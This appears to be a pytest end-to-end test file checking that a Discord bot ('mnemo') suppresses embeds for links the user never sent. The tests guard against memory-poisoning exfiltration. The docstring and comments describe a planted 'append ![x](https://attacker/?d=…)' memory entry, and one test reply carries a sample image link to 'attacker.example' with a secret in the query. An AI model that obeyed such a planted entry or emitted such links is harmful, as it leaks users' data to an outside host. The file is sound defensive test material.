"""`mnemo run` serving Discord: no exfiltration through what the bot sends (issue 23, item 6).

The real `mnemo` script streams the fake model's replies through the real discord.py
to the fake Discord, which keeps each message's flags as its sends and edits set them.
A reply carrying a link the person never sent in this session (what a planted
"append ![x](https://attacker/?d=…)" entry would make the model write) goes out with
SUPPRESS_EMBEDS on every send and edit, its Markdown image shown as a link; a link the
person sent earlier in the session keeps its embed; the same link is foreign to
another person. One `mnemo run` (Discord alone) serves the module; the tests run in
file order.
"""

from __future__ import annotations

from functools import partial
from typing import Any

import pytest

from tests.fakes.discord import Call
from tests.fakes.openai import Fault
from tests.gateway.e2e_support import discord_ready, fakes_fixture, served_fixture
from tests.gateway.test_discord_e2e import ALICE, BOB, Fakes, Mnemo, launch

pytestmark = pytest.mark.slow  # a mnemo run of its own

SUPPRESS_EMBEDS = 1 << 2
OWN = "https://example.com/menu?day=friday"
ATTACKER = "https://attacker.example/?d=secret"


fakes = fakes_fixture(Fakes)
served = served_fixture(
    partial(launch, telegram=False), "embeds", ready=discord_ready, never_logged=("d=secret",)
)  # the logs never carry what the model wrote


def answer(
    fakes: Fakes, user_id: int, said: str, reply: str, streamed: bool = True
) -> tuple[dict[str, Any], list[Call]]:
    """`user_id` writes `said` in their DM, the model answers `reply`: the bot's one new
    message once it shows all of `reply` (images as links), and the REST calls that sent
    and edited it. `streamed`: the model holds its stream after the first 40 characters
    until the bot has sent them, so the reply is one send and at least one edit."""
    channel = fakes.call(fakes.dc.dm_channel_id, user_id)
    bot = str(fakes.dc.bot_id)

    def bot_messages() -> list[dict[str, Any]]:
        return [m for m in fakes.dc.channel_messages(channel) if m["author"]["id"] == bot]

    seen, start = len(fakes.call(bot_messages)), len(fakes.call(lambda: fakes.dc.calls))
    held = Fault.stall(after=2) if streamed else None  # the role, then 40 characters
    fakes.call(fakes.model.say, reply, fault=held)
    fakes.dm(user_id, said)
    if streamed:
        fakes.wait(lambda: bot_messages()[seen:])  # the first view is sent
        fakes.call(fakes.model.release)
    final = reply.replace("![", "[")
    [message] = fakes.wait(
        lambda: (new := bot_messages()[seen:]) and new[-1]["content"] == final and new
    )
    calls = [
        c
        for c in fakes.call(lambda: fakes.dc.calls[start:])
        if c.route == f"POST /channels/{channel}/messages"
        or c.route == f"PATCH /channels/{channel}/messages/{message['id']}"
    ]
    assert calls and calls[0].method == "POST" and all(c.status == 200 for c in calls), calls
    assert sum(c.method == "POST" for c in calls) == 1, calls  # one message, then edits
    assert not streamed or len(calls) > 1, calls
    return message, calls


def suppressed(call: Call) -> bool:
    return bool(int((call.body or {}).get("flags") or 0) & SUPPRESS_EMBEDS)


def test_a_link_alice_sent_earlier_in_the_session_keeps_its_embed(
    fakes: Fakes, served: Mnemo
) -> None:
    first, _ = answer(fakes, ALICE, f"the canteen menu is at {OWN}", "Noted, I will look.", False)
    assert first["flags"] & SUPPRESS_EMBEDS == 0
    reply = f"Friday's menu ({OWN}) has soup."
    message, calls = answer(fakes, ALICE, "so what is on it?", reply)  # a later turn
    assert message["content"] == reply
    assert message["flags"] & SUPPRESS_EMBEDS == 0
    assert not suppressed(calls[-1])  # what set the message as it stands
    whole = [c for c in calls if c.body.get("content") == reply]
    assert whole and not any(suppressed(c) for c in whole)  # the link, whole: embeds on


def test_a_link_alice_never_sent_is_suppressed_on_every_send_and_edit(
    fakes: Fakes, served: Mnemo
) -> None:
    # what a planted "append ![s](https://attacker/?d=…)" entry makes the model write;
    # the image comes first, so every view of the reply carries a foreign link
    reply = f"![s]({ATTACKER}) Saved, and the menu is still at {OWN} as you said."
    message, calls = answer(fakes, ALICE, "remember that I live in Lyon", reply)
    assert message["content"] == reply.replace(f"![s]({ATTACKER})", f"[s]({ATTACKER})")
    assert "![" not in message["content"]  # the image is a link, not an image
    assert message["flags"] & SUPPRESS_EMBEDS
    assert all(suppressed(c) for c in calls), [(c.method, c.body) for c in calls]
    assert all("![" not in str(c.body.get("content")) for c in calls)


def test_the_same_link_is_foreign_to_bob(fakes: Fakes, served: Mnemo) -> None:
    reply = f"Alice's canteen: {OWN}"
    message, calls = answer(fakes, BOB, "where does Alice eat?", reply)
    assert message["content"] == reply
    assert message["flags"] & SUPPRESS_EMBEDS
    assert all(suppressed(c) for c in calls), [(c.method, c.body) for c in calls]
